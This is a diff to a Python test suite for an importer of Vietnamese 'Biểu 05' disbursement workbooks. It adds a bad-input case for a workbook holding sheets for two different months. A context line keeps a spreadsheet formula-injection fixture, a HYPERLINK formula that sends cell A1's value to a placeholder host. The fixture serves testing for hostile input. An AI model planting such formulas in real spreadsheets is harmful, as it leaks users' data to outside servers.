@@ -275,6 +275,15 @@ def _title_only(path: Path) -> None:
     workbook.save(path)
 
 
+def _monthly_sheets(workbook: Workbook) -> None:
+    """Offices keep one Biểu 05 sheet per month: February's sheet before March's."""
+    march = workbook["Giải ngân"]
+    february = workbook.copy_worksheet(march)
+    february.title, march.title = "T2", "T3"
+    february["A3"] = "Tháng 02/2024"
+    workbook.move_sheet(february, offset=-workbook.index(february))
+
+
 INJECTION = '=HYPERLINK("http://example.invalid/?x="&A1,"bấm vào đây")'
 
 CASES: list[BadInput] = [
@@ -595,6 +604,13 @@ CASES: list[BadInput] = [
         _text(CSV_HEADER + "\n" + CSV_ROW.replace("2024-03", "2031-03") + "\n"),
         "period_outside_window",
         "a report for 2031",
+    ),
+    BadInput(
+        "monthly_sheets_of_different_periods",
+        "bieu05_2024_T2_T3.xlsx",
+        _edited(_monthly_sheets),
+        "several_periods_in_workbook",
+        "one Biểu 05 sheet per month (T2, T3), sent without saying for which month",
     ),
 ]
 
